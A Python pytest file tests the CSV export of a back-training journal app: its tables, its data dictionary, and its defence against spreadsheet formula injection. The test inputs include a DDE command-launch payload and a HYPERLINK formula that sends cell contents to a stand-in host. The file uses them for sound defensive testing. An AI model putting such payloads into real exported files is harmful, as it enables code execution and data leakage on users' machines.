"""CSV: what a spreadsheet or a statistician reads."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import date, datetime
from typing import TYPE_CHECKING
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from rygtraening.domain.exposure_record import Attempt, Lesson, OwnLadder
from rygtraening.domain.programme_record import ProgrammeFollowed
from rygtraening.domain.record import AfterAnswers, SessionRecord, Stamp
from rygtraening.domain.text import Text
from rygtraening.domain.weekly_record import OwnActivity, SmallWin, WeekAnswers
from rygtraening.exchange import tables
from rygtraening.exchange.rows import answers, doses, exposure, programmes, training
from rygtraening.exchange.rows.cell import Cell, Row

if TYPE_CHECKING:
    from tests.exchange.conftest import FakeJournal

TABLES = {
    *("days", "sessions", "exercises", "pain", "entries"),
    *("decisions", "trials", "flares"),
    *("weeks", "week_activities", "wellbeing", "wins"),
    *("fears", "attempts", "own_ladders"),
    *("safety", "clearances", "profile", "programmes"),
}


ROOMS = (training, doses, answers, exposure, programmes)
"""Where the rows are made."""
NASTY = (
    "=1+1",
    '=HYPERLINK("https://example.invalid?"&A1;"klik")',
    "+45 12 34 56 78",
    "-2 i dag",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=cmd|' /C calc'!A0",
    "\n=1+1",
    "'=1+1",
    "''",
    "＝１＋１",
    'med "citationstegn", komma; semikolon\nog en linje til\r\n',
    "æøå … 🙂",
    "  mellemrum  ",
)


def rows(journal: FakeJournal, table: str) -> list[dict[str, str]]:
    files, _count = tables.files(journal)
    return list(csv.DictReader(io.StringIO(files[f"{table}.csv"].decode("utf-8-sig"), newline="")))


def test_there_is_a_table_a_kind_and_a_dictionary(journal: FakeJournal) -> None:
    files, count = tables.files(journal)
    assert set(files) == {f"{table}.csv" for table in TABLES} | {"data-dictionary.csv"}
    assert count == sum(len(rows(journal, table)) for table in TABLES)


def test_the_dictionary_explains_every_column_in_order(journal: FakeJournal) -> None:
    explained: dict[str, list[str]] = {}
    for row in rows(journal, "data-dictionary"):
        explained.setdefault(row["table"], []).append(row["column"])
        assert row["type"] in {"text", "code", "integer", "number", "boolean", "date", "time", "uuid"}
        assert row["meaning"]
    assert explained == {table: list(rows(journal, table)[0]) for table in TABLES}


def test_a_session_stands_with_the_newest_answers_about_it(journal: FakeJournal) -> None:
    (session,) = rows(journal, "sessions")
    assert session["day"] == "2026-03-02"
    assert session["started"] == "2026-03-02T08:01:00+01:00"
    assert (session["before_back"], session["before_leg"]) == ("3", "")
    assert (session["after_back"], session["after_leg"], session["leg_spread"]) == ("2", "0", "brief")
    assert session["programme_da"] == "Lænd – basis"
    assert session["repetitions"] == "20"


def test_repetitions_stand_a_side_where_there_are_sides(journal: FakeJournal) -> None:
    cat, knee = rows(journal, "exercises")
    assert (cat["repetitions"], cat["done_right"], cat["done_left"], cat["spread_here"]) == ("7", "", "", "false")
    assert (knee["repetitions"], knee["done_right"], knee["done_left"], knee["spread_here"]) == ("13", "7", "6", "true")
    assert (knee["worst_back"], knee["worst_leg"]) == ("4", "1")


def test_every_score_is_one_row_of_pain(journal: FakeJournal) -> None:
    found = {
        (row["moment"], row["exercise"]): (row["back"], row["leg"], row["number"]) for row in rows(journal, "pain")
    }
    assert found == {
        ("morning", ""): ("3", "0", "3"),
        ("before", ""): ("3", "", "3"),
        ("button", "knae-til-bryst"): ("4", "1", "4"),
        ("worst", "kattestraek"): ("2", "0", "2"),
        ("worst", "knae-til-bryst"): ("4", "1", "4"),
        ("after", ""): ("2", "0", "2"),
    }


def test_every_question_that_was_asked_is_one_row(journal: FakeJournal) -> None:
    assert {row["question"]: row["yes"] for row in rows(journal, "safety")} == {"bladder": "false", "fever": "true"}
    assert [row["question"] for row in rows(journal, "clearances")] == ["fever"]


def test_the_sums_of_a_day_are_the_journals(journal: FakeJournal) -> None:
    (day,) = rows(journal, "days")
    (summary,) = journal.summaries()
    assert day["repetitions"] == str(summary.repetitions) == "20"
    assert day["percent"] == "12.5"
    assert (day["worst"], day["morning"], day["stopped_for_pain"]) == ("4", "3", "false")


def test_an_entry_stands_as_the_rule_reads_it(journal: FakeJournal) -> None:
    cat, knee = rows(journal, "entries")
    assert (cat["exercise"], cat["tier"], cat["amount"], cat["before"], cat["worst"]) == (
        "kattestraek",
        "0",
        "7",
        "3",
        "2",
    )
    assert (cat["reference"], cat["next_morning"], cat["quota_done"], cat["leg_spread"]) == ("3", "", "true", "none")
    assert (knee["quota_done"], knee["leg_spread"], knee["colour"]) == ("false", "brief", "yellow")


def test_a_decision_stands_with_its_reason_and_the_dose_before_and_after(journal: FakeJournal) -> None:
    (decision,) = rows(journal, "decisions")
    assert (decision["action"], decision["rule"], decision["reason"]) == ("REGRESS2", "5", "flare")
    assert (decision["before_tier"], decision["before_amount"]) == ("1", "9")
    assert (decision["tier"], decision["amount"]) == ("0", "7")
    assert (decision["last_change"], decision["paused_until"], decision["declined"]) == ("2026-03-02", "", "false")
    assert decision["flare"] == rows(journal, "flares")[0]["flare"]
    assert [(row["exercise"], row["repetitions"]) for row in rows(journal, "trials")] == [("kattestraek", "11")]


def test_a_flare_up_stands_with_its_end_where_one_was_said(journal: FakeJournal) -> None:
    over, going_on = rows(journal, "flares")
    assert (over["day"], over["usual"], over["said"], over["ended"]) == ("2026-03-02", "3.5", "true", "2026-03-02")
    assert (going_on["usual"], going_on["said"], going_on["ended"]) == ("", "false", "")


def test_each_activity_of_a_week_is_one_row(journal: FakeJournal) -> None:
    (week,) = rows(journal, "weeks")
    assert (week["average_back"], week["average_leg"], week["fear"], week["confidence"]) == ("3", "", "6", "0")
    activities = {row["activity"]: row["score"] for row in rows(journal, "week_activities")}
    assert activities == {"Løfte barnebarnet op": "4", "'-at stå længe": ""}
    (wellbeing,) = rows(journal, "wellbeing")
    assert (wellbeing["sleep"], wellbeing["stress"]) == ("7", "")


def test_a_win_that_was_taken_back_is_gone(journal: FakeJournal) -> None:
    assert [(row["win"], row["text"]) for row in rows(journal, "wins")] == [("win-1", "'@åen og hjem igen")]


def test_an_attempt_stands_with_what_was_expected_what_happened_and_what_it_taught(journal: FakeJournal) -> None:
    done, still_open = rows(journal, "attempts")
    assert (done["activity"], done["step"], done["likelihood"], done["expected"]) == ("boeje", "sko", "60", "7")
    assert (done["happened"], done["worst_back"], done["worst_leg"], done["stopped"]) == ("no", "4", "1", "false")
    assert (done["feared"], done["lesson"]) == ("'=At ryggen låser", "'+Den låste ikke")
    assert (still_open["happened"], still_open["worst_back"], still_open["lesson"]) == ("", "", "")
    assert [(row["step"], row["fear"]) for row in rows(journal, "fears")] == [("sko", "5")]


def test_each_step_of_a_ladder_of_ones_own_is_one_row(journal: FakeJournal) -> None:
    steps = [
        (row["ladder"], row["name"], row["number"], row["text"], row["removed"]) for row in rows(journal, "own_ladders")
    ]
    assert steps == [
        ("ladder-1", "''Cykle", "1", "til bageren", "true"),
        ("ladder-1", "''Cykle", "2", "'=til åen", "true"),
    ]


def test_the_profile_says_how_often_and_how_far(journal: FakeJournal) -> None:
    (profile,) = rows(journal, "profile")
    assert (profile["usual_back"], profile["days_per_week"], profile["opt_in"]) == ("4", "4", "true")


def test_no_cell_is_a_formula(journal: FakeJournal) -> None:
    cells = [cell for table in TABLES for row in rows(journal, table) for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []


def test_a_note_is_never_a_formula_and_comes_back_whole(journal: FakeJournal) -> None:
    (session,) = rows(journal, "sessions")
    assert session["note"] == '\'=1+1\nøm, men "glad"; gik tur'


def test_excel_is_told_that_it_is_utf_8(journal: FakeJournal) -> None:
    files, _count = tables.files(journal)
    assert all(content.startswith(b"\xef\xbb\xbf") for content in files.values())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'"])
def test_what_a_spreadsheet_could_run_gets_an_apostrophe(start: str) -> None:
    assert tables.safe(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@given(text=st.text(max_size=20))
def test_one_apostrophe_away_and_the_text_is_back(text: str) -> None:
    cell = tables.safe(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")
    assert (cell[1:] if cell.startswith("'") else cell) == text


def test_an_empty_journal_gives_tables_with_headers_only(empty_journal: FakeJournal) -> None:
    files, count = tables.files(empty_journal)
    assert count == 0
    assert all(b"," in content for content in files.values())


def read(text: str, kind: str) -> Cell:
    """A cell as a reader of the data dictionary takes it."""
    if not text:
        return None
    match kind:
        case "integer":
            return int(text)
        case "number":
            return float(text)
        case "boolean":
            return {"true": True, "false": False}[text]
        case "date":
            return date.fromisoformat(text)
        case "time":
            return datetime.fromisoformat(text)
        case _:
            return text.removeprefix("'")


def texts(journal: FakeJournal) -> dict[str, list[dict[str, str]]]:
    """The cells of all tables as they stand in the files, the dictionary's too."""
    files, _count = tables.files(journal)
    return {
        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        for name, content in files.items()
    }


def read_back(journal: FakeJournal) -> dict[str, list[dict[str, Cell]]]:
    """All tables, read by nothing but what the dictionary says."""
    found = texts(journal)
    kinds = {(row["table"], row["column"]): row["type"] for row in found.pop("data-dictionary")}
    return {
        table: [{column: read(text, kinds[table, column]) for column, text in row.items()} for row in each]
        for table, each in found.items()
    }


def as_kept(journal: FakeJournal) -> dict[str, list[dict[str, Cell]]]:
    """The journal's own values; an empty text is nothing."""
    made: dict[str, Callable[[FakeJournal], Iterator[Row]]] = {
        table: next(getattr(room, name) for room in ROOMS if hasattr(room, name))
        for table, name in ((table, {"pain": "pains"}.get(table, table)) for table in TABLES)
    }
    return {
        table: [{column: None if cell == "" else cell for column, cell in row.items()} for row in make(journal)]
        for table, make in made.items()
    }


def written_by_somebody_nasty(journal: FakeJournal, text: str) -> None:
    """``text`` wherever a person or an exercise file can write one."""
    said = Text(text, text)

    def anew(stamp: Stamp) -> Stamp:
        return replace(stamp, id=UUID(int=stamp.id.int + 10_000), at=stamp.at.replace(hour=23))

    for record in journal.facts(SessionRecord):
        exercises = tuple(replace(each, exercise=text, name=said) for each in record.exercises[:1])
        journal.append(
            replace(record, stamp=anew(record.stamp), programme=text, programme_name=said, exercises=exercises)
        )
    for page in journal.facts(AfterAnswers):
        journal.append(replace(page, stamp=anew(page.stamp), note=text, worst=((text, page.worst[0][1]),)))
    for week in journal.facts(WeekAnswers):
        journal.append(replace(week, stamp=anew(week.stamp), activities=(OwnActivity(text, 4),)))
    for win in journal.facts(SmallWin):
        journal.append(replace(win, stamp=anew(win.stamp), text=text))
    for attempt in journal.facts(Attempt):
        journal.append(replace(attempt, stamp=anew(attempt.stamp), activity=text, step=text, feared=text))
    for lesson in journal.facts(Lesson):
        journal.append(replace(lesson, stamp=anew(lesson.stamp), text=text))
    for chosen in journal.facts(ProgrammeFollowed):
        journal.append(replace(chosen, stamp=anew(chosen.stamp), programme=text, name=said))
    for ladder in journal.facts(OwnLadder):
        journal.append(replace(ladder, stamp=anew(ladder.stamp), name=text, steps=(text, text)))


def test_every_table_comes_back_as_the_journal_has_it(journal: FakeJournal) -> None:
    assert read_back(journal) == as_kept(journal)
    assert all(as_kept(journal).values())


@pytest.mark.parametrize("text", NASTY)
def test_what_somebody_nasty_writes_is_no_formula_in_any_table_and_comes_back_whole(
    text: str, journal: FakeJournal
) -> None:
    written_by_somebody_nasty(journal, text)
    assert read_back(journal) == as_kept(journal)
    cells = [cell for table in texts(journal).values() for row in table for cell in row.values()]
    formulas = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
    assert [cell for cell in cells if cell.startswith(formulas)] == []
    # programme and its names, both twice, the exercise in three tables, note, week, wins, attempts, lesson, ladder
    assert [cell.removeprefix("'") for cell in cells].count(text) >= 20


@pytest.mark.parametrize(
    ("number", "text"), [(305.0, "305"), (12.5, "12.5"), (100 / 3, "33.3333333333333"), (0.0, "0")]
)
def test_a_number_has_no_more_digits_than_a_spreadsheet_holds(number: float, text: str) -> None:
    assert tables.safe(number) == text
    assert float(text) == pytest.approx(number, rel=1e-14)


@given(text=st.text(min_size=1, max_size=30, alphabet=st.characters(exclude_categories=["Cs"])))
def test_any_win_comes_back_through_the_file(text: str) -> None:
    written = tables._csv(("text", "end"), [(text, "end")])
    _header, (cell, end) = csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))
    assert (cell.removeprefix("'"), end) == (text, "end")
